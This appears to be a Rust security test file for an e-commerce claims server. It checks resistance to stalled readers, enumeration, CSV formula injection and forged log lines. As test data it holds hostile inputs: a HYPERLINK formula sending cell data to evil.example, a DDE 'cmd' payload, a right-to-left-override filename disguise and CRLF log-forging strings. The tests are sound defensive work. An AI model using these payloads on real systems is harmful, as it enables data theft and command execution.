//! An attacker holding one legitimate credential, against the real binary: stalled readers
//! of large answers, a lower-rank key's inquiry under a huge parent, formulas and hidden
//! characters in customer text, order enumeration through shipments, and forged log lines.
//! Each test reports what it measured (`-- --nocapture`); timings are guarded loosely.

mod support;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::time::{Duration, Instant};

use claims_domain::KstDate;
use serde_json::{Value, json};
use support::{Running, add_vendor, create_token, issue_key, run, ssg_claims, stdout};

const INQUIRY: &str = "/api/clm/cncl/ord/inquiry.ssg";
const WEEK: &str = r#"{"request": {"perdStrDts": "20261122", "perdEndDts": "20261128"}}"#;

/// Resident and peak resident memory of a process, in KiB.
fn rss_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| -> u64 {
        status
            .lines()
            .find_map(|line| line.strip_prefix(name))
            .and_then(|rest| rest.split_whitespace().next())
            .and_then(|kib| kib.parse().ok())
            .unwrap_or_else(|| panic!("{name} in /proc/{pid}/status"))
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// Writes `count` claim lines of `vendor` (and `lower`, if given), spread over the week of
/// 2026-11-22, straight into the SQLite file: far quicker than making them one by one, and
/// the inquiry reads nothing else.
fn fill_week(db: &Path, tag: &str, vendor: &str, lower: Option<&str>, count: u32) {
    let from = KstDate::parse_compact("20261122")
        .unwrap()
        .start()
        .unix_seconds();
    let connection = rusqlite::Connection::open(db).unwrap();
    connection
        .execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1) \
             INSERT INTO claim_lines SELECT ?2, ?3 + i * 600000 / ?1, printf('C%s%07d', ?4, i), 1, ?5, \
               printf('O%s%07d', ?4, i), 1, '홍길동', '30', ?3 - 3600, '1000028463390', \
               '유기농 우유 1L', '00001', '', 2, '251', '', '10', 1, 0, 0, 0, 450 FROM n",
            rusqlite::params![count, vendor, from, tag, lower],
        )
        .unwrap();
}

/// Sends an inquiry with `key` on a new connection and returns it, unread; with `close`,
/// the server closes the connection after its answer.
fn ask(address: &str, key: &str, close: bool) -> TcpStream {
    let mut stream = TcpStream::connect(address).unwrap();
    let connection = if close { "close" } else { "keep-alive" };
    let request = format!(
        "POST {INQUIRY} HTTP/1.1\r\nHost: {address}\r\nAuthorization: {key}\r\n\
         Connection: {connection}\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n{WEEK}",
        WEEK.len()
    );
    stream.write_all(request.as_bytes()).unwrap();
    stream
}

/// Reads until the server closes the connection or `limit` passes.
fn read_until_closed(stream: &mut TcpStream, limit: Duration) -> Vec<u8> {
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let started = Instant::now();
    let mut out = Vec::new();
    let mut buffer = vec![0; 1 << 16];
    while started.elapsed() < limit {
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(read) => out.extend_from_slice(&buffer[..read]),
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(error) if error.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => break,
        }
    }
    out
}

fn status_of(answer: &[u8]) -> u16 {
    String::from_utf8_lossy(&answer[..answer.len().min(12)])[9..12]
        .parse()
        .unwrap()
}

#[test]
fn stalled_readers_of_large_answers_cannot_take_a_node_down() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    add_vendor(&db, "0000012345", "(주)한빛유통");
    add_vendor(&db, "0000023456", "초록마켓");
    let attacker = issue_key(&db, "0000012345");
    let other = issue_key(&db, "0000023456");
    // About 60 MB of JSON: more than loopback's socket buffers hold (up to 32 MiB of
    // receive buffer here), so a client that reads nothing really stalls its answer.
    fill_week(&db, "A", "0000012345", None, 90_000);
    fill_week(&db, "B", "0000023456", None, 5);
    let send_timeout = 3;
    let server = Running::start(ssg_claims(&db).args([
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--max-connections",
        "64",
        "--send-timeout-secs",
        &send_timeout.to_string(),
    ]));
    let address = server.base.trim_start_matches("http://").to_owned();
    let client = || {
        reqwest::blocking::Client::builder()
            .timeout(Duration::from_secs(60))
            .build()
            .unwrap()
    };
    // One whole answer first: its size, and the memory of a server that has sent one. The
    // server closes its connection, so that the attack below holds every one.
    let whole = read_until_closed(&mut ask(&address, &attacker, true), Duration::from_secs(60));
    assert!(String::from_utf8_lossy(&whole).ends_with("\r\n0\r\n\r\n"));
    let (rss_before, peak_whole) = rss_kib(server.pid());
    // From here the peak counts the attack alone.
    std::fs::write(format!("/proc/{}/clear_refs", server.pid()), "5").unwrap();
    let client = client();

    // Every connection the node has, each asking for a 60 MB answer and reading nothing.
    let started = Instant::now();
    let mut stalled: Vec<TcpStream> = (0..64).map(|_| ask(&address, &attacker, false)).collect();
    std::thread::sleep(Duration::from_millis(1_500));

    let health = client
        .get(format!("{}/healthz", server.base))
        .send()
        .unwrap();
    let health_after = started.elapsed();
    assert_eq!(health.status(), 200);
    let served = client
        .post(format!("{}{INQUIRY}", server.base))
        .header("authorization", &other)
        .header("content-type", "application/json")
        .body(WEEK)
        .send()
        .unwrap();
    let other_after = started.elapsed();
    assert_eq!(served.status(), 200);
    let (rss_during, peak) = rss_kib(server.pid());

    // The answers the attacker got, read once every stream it started has had time to be
    // cut: large ones (at most four at a time; a request whose first page came only after
    // earlier ones were cut may take a freed slot), each cut once stalled for the send
    // timeout, and code 29 for the rest.
    std::thread::sleep(
        (Duration::from_secs(send_timeout * 3 + 2)).saturating_sub(started.elapsed()),
    );
    let mut cut = 0;
    let mut refused = 0;
    for stream in &mut stalled {
        let answer = read_until_closed(stream, Duration::from_secs(15));
        let text = String::from_utf8_lossy(&answer);
        if status_of(&answer) == 200 {
            assert!(
                answer.len() < whole.len(),
                "a stalled answer was cut: {} of {} bytes",
                answer.len(),
                whole.len()
            );
            assert!(
                !text.ends_with("\r\n0\r\n\r\n"),
                "and is visibly incomplete"
            );
            cut += 1;
        } else {
            assert!(text.contains(r#""resultCode":"29""#), "{text}");
            refused += 1;
        }
    }
    eprintln!(
        "one whole answer: {} bytes; 64 stalled: {cut} streamed and cut, {refused} refused with code 29\n\
         /healthz answered {:.1} s and another vendor {:.1} s after the attack began \
         (send timeout {send_timeout} s)\n\
         server RSS {} KiB after the whole answer (peak {} KiB while sending it), \
         {} KiB during the attack (peak {} KiB)",
        whole.len(),
        health_after.as_secs_f64(),
        other_after.as_secs_f64(),
        rss_before,
        peak_whole,
        rss_during,
        peak
    );
    assert!(cut >= 4 && refused >= 48, "max_streams_per_credential");
    assert!(
        other_after < Duration::from_secs(send_timeout + 5),
        "others are served within the send timeout plus a few seconds"
    );
    // While the stalled answers are held: a page or so each, not their answers (64 of
    // them would be 3.7 GB). A page's buffer is 1 MiB once grown, and what the readers'
    // threads freed the allocator keeps for a while: on this code path the growth measured
    // 56 to 80 MiB from run to run, so the bound is a page and a half each. (The peak is
    // higher for a moment, while the first pages are read at once: at most a page per
    // request in flight, released as each is refused.)
    assert!(
        rss_during < rss_before + 96 * 1024,
        "memory stays bounded: {rss_before} KiB before, {rss_during} KiB while stalled"
    );
}

#[test]
fn a_revoked_keys_long_answer_ends_at_its_next_page() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    add_vendor(&db, "0000012345", "(주)한빛유통");
    let key = issue_key(&db, "0000012345");
    fill_week(&db, "A", "0000012345", None, 20_000);
    let server = Running::start(ssg_claims(&db).args(["serve", "--listen", "127.0.0.1:0"]));
    let address = server.base.trim_start_matches("http://").to_owned();
    let mut stream = ask(&address, &key, false);
    let mut first = vec![0; 64 * 1024];
    stream.read_exact(&mut first).unwrap();

    let listed = stdout(&run(ssg_claims(&db).args([
        "key",
        "list",
        "--vendor",
        "0000012345",
    ])));
    let key_id = listed
        .split_whitespace()
        .find(|word| word.starts_with("key_"))
        .unwrap()
        .to_owned();
    run(ssg_claims(&db).args(["key", "revoke", &key_id]));

    let rest = read_until_closed(&mut stream, Duration::from_secs(20));
    let received = first.len() + rest.len();
    let rows = String::from_utf8_lossy(&rest).matches("\"ordNo\"").count();
    eprintln!("after revocation the answer ended: {received} bytes in all");
    assert!(
        !String::from_utf8_lossy(&rest).ends_with("\r\n0\r\n\r\n"),
        "the answer was cut, not finished"
    );
    assert!(rows < 20_000 * 2, "not every row was sent");
}

#[test]
fn a_lower_rank_keys_inquiry_costs_what_its_own_rows_cost() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    add_vendor(&db, "0000012345", "(주)한빛유통");
    run(ssg_claims(&db).args([
        "vendor",
        "add",
        "--id",
        "0000012346",
        "--name",
        "한빛 물류센터",
        "--parent",
        "0000012345",
    ]));
    add_vendor(&db, "0000023456", "초록마켓");
    let lower_key = stdout(&run(ssg_claims(&db).args([
        "key",
        "issue",
        "--vendor",
        "0000012345",
        "--lower-rank",
        "0000012346",
    ])))
    .trim()
    .to_owned();
    let other_key = issue_key(&db, "0000023456");
    // A parent with 30,000 lines in the week, 10 of them its lower-rank vendor's; another
    // vendor with 10.
    fill_week(&db, "P", "0000012345", None, 30_000);
    fill_week(&db, "L", "0000012345", Some("0000012346"), 10);
    fill_week(&db, "O", "0000023456", None, 10);
    let server = Running::start(ssg_claims(&db).args(["serve", "--listen", "127.0.0.1:0"]));
    let client = reqwest::blocking::Client::new();
    let ask = |key: &str| {
        let started = Instant::now();
        let answer = client
            .post(format!("{}{INQUIRY}", server.base))
            .header("authorization", key)
            .header("content-type", "application/json")
            .body(WEEK)
            .send()
            .unwrap();
        assert_eq!(answer.status(), 200);
        let body: Value = answer.json().unwrap();
        assert_eq!(body["result"]["data"].as_array().unwrap().len(), 10);
        started.elapsed()
    };
    for _ in 0..5 {
        ask(&lower_key);
        ask(&other_key);
    }
    // Interleaved, so that whatever else the machine does weighs on both alike.
    let (mut lower, mut other) = (Vec::new(), Vec::new());
    for _ in 0..60 {
        lower.push(ask(&lower_key));
        other.push(ask(&other_key));
    }
    lower.sort();
    other.sort();
    let (lower, other) = (lower[30], other[30]);
    eprintln!(
        "10-row week, median of 60: lower-rank key under a 30,000-line parent {:.2} ms, \
         another vendor {:.2} ms ({:.2}x)",
        lower.as_secs_f64() * 1e3,
        other.as_secs_f64() * 1e3,
        lower.as_secs_f64() / other.as_secs_f64()
    );
    assert!(
        lower <= other * 2,
        "a lower-rank key's small week costs at most twice another vendor's: {lower:?} vs {other:?}"
    );
}

/// Places `order` and cancels item 1 with `reason_text` through the platform API.
fn place_and_cancel(base: &str, storefront: &str, agent: &str, order: Value, reason_text: &str) {
    let client = reqwest::blocking::Client::new();
    let ord_no = order["ordNo"].as_str().unwrap().to_owned();
    let placed = client
        .post(format!("{base}/v1/orders"))
        .bearer_auth(storefront)
        .json(&order)
        .send()
        .unwrap();
    assert_eq!(placed.status(), 201, "{}", placed.text().unwrap());
    let canceled = client
        .post(format!("{base}/v1/orders/{ord_no}/cancellations"))
        .bearer_auth(agent)
        .json(
            &json!({"items": [{"ordItemSeq": 1, "qty": 1}], "clmRsnCd": "251",
                      "clmRsnCntt": reason_text, "agentId": "agent-7"}),
        )
        .send()
        .unwrap();
    assert_eq!(canceled.status(), 201, "{}", canceled.text().unwrap());
}

fn order(ord_no: &str, orderer: &str, item_name: &str) -> Value {
    json!({"ordNo": ord_no, "ordpeNm": orderer, "customerId": "c-1001", "ordRcpMediaCd": "30",
           "ordRcpDts": "2026-11-20 09:50:17", "shippingFees": [],
           "items": [{"ordItemSeq": 1, "itemId": "1000028463390", "itemNm": item_name,
                      "qty": 2, "unitPrice": 4500, "splVenId": "0000012345"}]})
}

#[test]
fn customer_text_never_acts_in_a_vendors_spreadsheet_or_hides_itself() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    add_vendor(&db, "0000012345", "(주)한빛유통");
    let key = issue_key(&db, "0000012345");
    let storefront = create_token(&db, "storefront");
    let agent = create_token(&db, "service-center");
    let server = Running::start(ssg_claims(&db).args(["serve", "--listen", "127.0.0.1:0"]));
    place_and_cancel(
        &server.base,
        &storefront,
        &agent,
        order(
            "CSV-1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+우유 1L",
        ),
        "=cmd|' /C calc'!A0",
    );
    place_and_cancel(
        &server.base,
        &storefront,
        &agent,
        order("CSV-2", "@홍길동", "-우유"),
        "\t=1+1",
    );
    // Disguising characters are refused at the door, naming the field.
    let client = reqwest::blocking::Client::new();
    let hidden = client
        .post(format!("{}/v1/orders", server.base))
        .bearer_auth(&storefront)
        .json(&order("CSV-3", "홍길동\u{202E}cod.exe", "우유"))
        .send()
        .unwrap();
    assert_eq!(hidden.status(), 400);
    let problem: Value = hidden.json().unwrap();
    assert_eq!(problem["field"], "ordpeNm");
    assert!(
        problem["detail"].as_str().unwrap().contains("U+202E"),
        "{problem}"
    );

    let today = KstDate::of(claims_server::Clock::now(&claims_server::SystemClock)).compact();
    let csv = stdout(&run(ssg_claims(&db)
        .env("SSG_CLAIMS_KEY", &key)
        .args(["cancels", "--base-url", &server.base, "--format", "csv"])
        .args(["--from", &today, "--to", &today])));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let mut cells = 0;
    for record in reader.records() {
        for (name, cell) in headers.iter().zip(record.unwrap().iter()) {
            cells += 1;
            // The one formula written: digits kept as text for Excel (`="0000012345"`),
            // with nothing but digits between its quotes.
            let kept_digits = cell
                .strip_prefix("=\"")
                .and_then(|rest| rest.strip_suffix('"'))
                .is_some_and(|digits| {
                    !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
                });
            assert!(
                kept_digits || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name} starts a formula: {cell:?}"
            );
        }
    }
    assert!(cells > 0);
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'@홍길동"), "{csv}");
}

#[test]
fn another_vendors_item_is_answered_exactly_as_a_missing_one() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    add_vendor(&db, "0000012345", "(주)한빛유통");
    add_vendor(&db, "0000023456", "초록마켓");
    let snooper = issue_key(&db, "0000023456");
    let storefront = create_token(&db, "storefront");
    let server = Running::start(ssg_claims(&db).args(["serve", "--listen", "127.0.0.1:0"]));
    let client = reqwest::blocking::Client::new();
    let placed = client
        .post(format!("{}/v1/orders", server.base))
        .bearer_auth(&storefront)
        .json(&order("ENUM-1", "홍길동", "우유"))
        .send()
        .unwrap();
    assert_eq!(placed.status(), 201);
    let ship = |path: &str| {
        let answer = client
            .post(format!("{}{path}", server.base))
            .bearer_auth(&snooper)
            .send()
            .unwrap();
        let status = answer.status();
        let mut headers: Vec<String> = answer
            .headers()
            .iter()
            .filter(|(name, _)| {
                !matches!(
                    name.as_str(),
                    "date" | "x-request-id" | "ratelimit-remaining"
                )
            })
            .map(|(name, value)| format!("{name}: {value:?}"))
            .collect();
        headers.sort();
        (status, headers, answer.text().unwrap())
    };
    let existing = ship("/v1/orders/ENUM-1/items/1/shipment");
    let missing_item = ship("/v1/orders/ENUM-1/items/2/shipment");
    let missing_order = ship("/v1/orders/ENUM-9/items/1/shipment");
    eprintln!("another vendor's item: {existing:?}\nmissing: {missing_order:?}");
    assert_eq!(existing.0, 404);
    assert_eq!(existing.1, missing_order.1, "the same headers");
    assert_eq!(existing.2, missing_order.2.replace("ENUM-9", "ENUM-1"));
    assert_eq!(existing.2, missing_item.2.replace("item 2", "item 1"));
}

/// Log lines written while `requests` run against a server on `db` logging with `filter`.
fn server_log(db: &str, filter: &str, requests: impl FnOnce(&str, &str, &str)) -> Vec<String> {
    add_vendor(db, "0000012345", "(주)한빛유통");
    let storefront = create_token(db, "storefront");
    let key = issue_key(db, "0000012345");
    let mut server = Running::start(ssg_claims(db).env("SSG_CLAIMS_LOG", filter).args([
        "serve",
        "--listen",
        "127.0.0.1:0",
    ]));
    requests(&server.base, &storefront, &key);
    server.terminate();
    assert!(server.wait_exit(Duration::from_secs(10)).is_some());
    server.log_lines()
}

/// Requests that carry a forged log line in every value a caller controls, and a customer's
/// name. Each carries an `Idempotency-Key`, so that the database is asked something while
/// the handler's span is open.
fn forge_log_lines(base: &str, storefront: &str, key: &str) {
    let client = reqwest::blocking::Client::new();
    let forged = "2026-12-01T00:00:00.000000Z  INFO key.id=key_0000 API key revoked";
    // In a path segment, percent-encoded, as the router decodes it.
    let path = format!(
        "/v1/orders/A%0A{}/cancellations",
        forged.replace(' ', "%20")
    );
    let answer = client
        .post(format!("{base}{path}"))
        .bearer_auth(storefront)
        .header("idempotency-key", "forge-1")
        .json(
            &json!({"items": [{"ordItemSeq": 1, "qty": 1}], "clmRsnCd": "251",
                      "customerId": "c-1001"}),
        )
        .send()
        .unwrap();
    assert_eq!(answer.status(), 404);
    // In a body's order number, and in a customer's name that must never reach the log.
    let mut bad = order(&format!("B\n{forged}"), "홍길동비밀", "우유");
    let answer = client
        .post(format!("{base}/v1/orders"))
        .bearer_auth(storefront)
        .header("idempotency-key", "forge-2")
        .json(&bad)
        .send()
        .unwrap();
    assert_eq!(answer.status(), 400);
    bad["ordNo"] = json!("LOG-1");
    let answer = client
        .post(format!("{base}/v1/orders"))
        .bearer_auth(storefront)
        .header("idempotency-key", "forge-3")
        .json(&bad)
        .send()
        .unwrap();
    assert_eq!(answer.status(), 201);
    let answer = client
        .post(format!("{base}/v1/orders/LOG-1/items/1%0Aforged/shipment"))
        .bearer_auth(key)
        .send()
        .unwrap();
    assert_eq!(answer.status(), 404);
}

/// Checks that no line of `log` was shaped by a caller (and, with `customers`, that no
/// customer's name is in it).
fn assert_no_forged_lines(log: &[String], store: &str, customers: bool) {
    assert!(log.len() > 5, "{store}: the server logged: {log:?}");
    for line in log {
        assert!(
            !line.contains("API key revoked"),
            "{store}: a caller forged a log line: {line}"
        );
        assert!(
            !customers || !line.contains("홍길동비밀"),
            "{store}: a customer's name reached the log: {line}"
        );
        assert!(
            line.starts_with("20") && !line.contains('\r'),
            "{store}: every line is one event of the server's own: {line:?}"
        );
    }
}

#[test]
fn callers_cannot_forge_log_lines_or_put_customer_data_in_them() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("claims.db");
    let log = server_log(db.to_str().unwrap(), "debug", forge_log_lines);
    assert_no_forged_lines(&log, "SQLite", true);

    let Some(server) =
        claims_store_postgres::testing::server_url("the log-forging test on PostgreSQL")
    else {
        return;
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    // At debug, the driver's own lines (every statement's parameters) stay out.
    let database = runtime.block_on(claims_store_postgres::testing::TestDatabase::create(
        &server,
    ));
    let log = server_log(&database.url, "debug", forge_log_lines);
    assert_no_forged_lines(&log, "PostgreSQL at debug", true);
    drop(database);
    // Asked for by name, they are logged, inside the handlers' spans: the spans still hold
    // only validated values.
    let database = runtime.block_on(claims_store_postgres::testing::TestDatabase::create(
        &server,
    ));
    let log = server_log(&database.url, "debug,tokio_postgres=debug", forge_log_lines);
    assert!(
        log.iter().any(|line| line.contains("place_order{")),
        "the driver logged inside a handler's span: {log:?}"
    );
    assert_no_forged_lines(&log, "PostgreSQL with tokio_postgres=debug", false);
}
